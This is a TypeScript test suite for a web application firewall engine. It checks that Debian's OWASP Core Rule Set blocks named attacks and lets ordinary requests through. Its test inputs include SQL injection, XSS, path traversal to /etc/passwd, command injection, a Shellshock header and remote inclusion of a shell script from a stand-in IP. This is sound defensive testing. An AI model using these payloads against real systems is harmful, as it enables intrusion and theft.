// The Core Rule Set that Debian ships, 3.3.4, as its package installs it: it loads without an error, stops the attacks
// that everybody knows, each by the rule that is for it, and lets ordinary requests pass.

import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { test } from 'node:test';
import { loadRules, type RuleSet, readRules } from '../../../agents/waf/engine.ts';
import { type Ask, form, logged, run } from './support.ts';

const entry = '/usr/share/modsecurity-crs/owasp-crs.load';
const skip = existsSync(entry) ? false : 'SKIPPED: apt-get install modsecurity-crs';

const settings = `SecRuleEngine On
SecRequestBodyAccess On
SecResponseBodyAccess On
SecResponseBodyMimeType text/html
SecRule REQUEST_HEADERS:Content-Type "@beginsWith application/json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
SecRule REQUEST_HEADERS:Content-Type "@rx ^(?:application|text)/xml" "id:200000,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=XML"`;

const loaded = skip === false ? await load() : undefined;

async function load() {
  const { sources, files, problems } = await readRules([entry]);
  assert.deepEqual(problems, []);
  return loadRules([{ file: 'settings.conf', text: settings }, ...sources], files);
}

function rules(): RuleSet {
  assert(loaded !== undefined && 'ruleSet' in loaded, JSON.stringify(loaded, undefined, 2));
  return loaded.ruleSet;
}

const usual = [
  ['Host', 'shop.example'],
  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'],
  ['Accept', 'text/html'],
] as const;
const json = [['Content-Type', 'application/json']] as const;
const ask = (given: Ask) => run(rules(), { ...given, headers: [...usual, ...(given.headers ?? [])] });

test('it loads, all of it', { skip }, () => {
  const { phases } = rules();
  assert(phases.flat().filter(({ kind }) => kind === 'rule').length > 500);
});

const attacks: ReadonlyArray<readonly [what: string, id: number, ask: Ask]> = [
  ['SQL injection', 942100, { target: "/?id=1'%20OR%201=1--" }],
  ['SQL injection in a form', 942190, { method: 'POST', headers: form, body: 'q=1+union+select+password+from+users' }],
  ['cross-site scripting', 941110, { target: '/?q=%3Cscript%3Ealert(1)%3C/script%3E' }],
  ['cross-site scripting in JSON', 941100, { method: 'POST', headers: json, body: '{"a":["<svg onload=alert(1)>"]}' }],
  ['a file of the system', 930120, { target: '/?file=../../../../etc/passwd' }],
  ['the way up, in the path', 930110, { target: '/static/../../../../etc/hosts' }],
  ['a command', 932100, { target: '/?host=127.0.0.1;%20cat%20/etc/hosts' }],
  ['Shellshock', 932170, { headers: [['Referer', '() { :; }; /bin/id']] }],
  ['PHP', 933100, { target: '/?a=%3C?php%20system(1);' }],
  ['a wrapper of PHP', 933140, { target: '/?page=php://input' }],
  ['a page from elsewhere', 931100, { target: '/?page=http://198.51.100.7/shell.txt' }],
  ['Java', 944100, { target: '/?c=java.lang.Runtime.getRuntime().exec(1)' }],
  ['a scanner', 913100, { headers: [['User-Agent', 'sqlmap/1.7']] }],
  ['a split response', 921120, { target: '/?l=x%0d%0aSet-Cookie:%20a=b' }],
  ['a file that is not for everybody', 930130, { target: '/.git/config' }],
];

for (const [what, id, given] of attacks) {
  test(`stops ${what}`, { skip }, () => {
    const transaction = ask(given);
    const { kind, status, score } = transaction.verdict;
    assert.deepEqual([kind, status, (score ?? 0) >= 5], ['deny', 403, true]);
    assert(logged(transaction).includes(id), `${id} is not among ${logged(transaction).join(', ')}`);
  });
}

test('a database that tells of its errors is stopped in its answer', { skip }, () => {
  const body = '<b>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server</b>';
  const { verdict } = ask({ response: { headers: [['Content-Type', 'text/html']], body } });
  assert.equal(verdict.kind, 'deny');
});

const ordinary: readonly Ask[] = [
  { target: '/' },
  { target: '/search?q=blue+shoes&page=2&sort=price' },
  { target: '/articles/2026/how-we-select-our-partners' },
  { method: 'POST', headers: form, body: 'name=Anna+M%C3%BCller&city=K%C3%B6ln&comment=See+you+on+Monday%21' },
  { method: 'POST', headers: json, body: '{"items":[{"id":7,"count":2}],"note":"leave it at the door"}' },
  {
    headers: [['Cookie', 'session=4f9c2b1a; theme=dark']],
    response: { headers: [['Content-Type', 'text/html']], body: '<p>Hello</p>' },
  },
];

test('ordinary requests pass', { skip }, () => {
  for (const given of ordinary) assert.deepEqual([logged(ask(given)), ask(given).verdict.kind], [[], 'pass']);
});
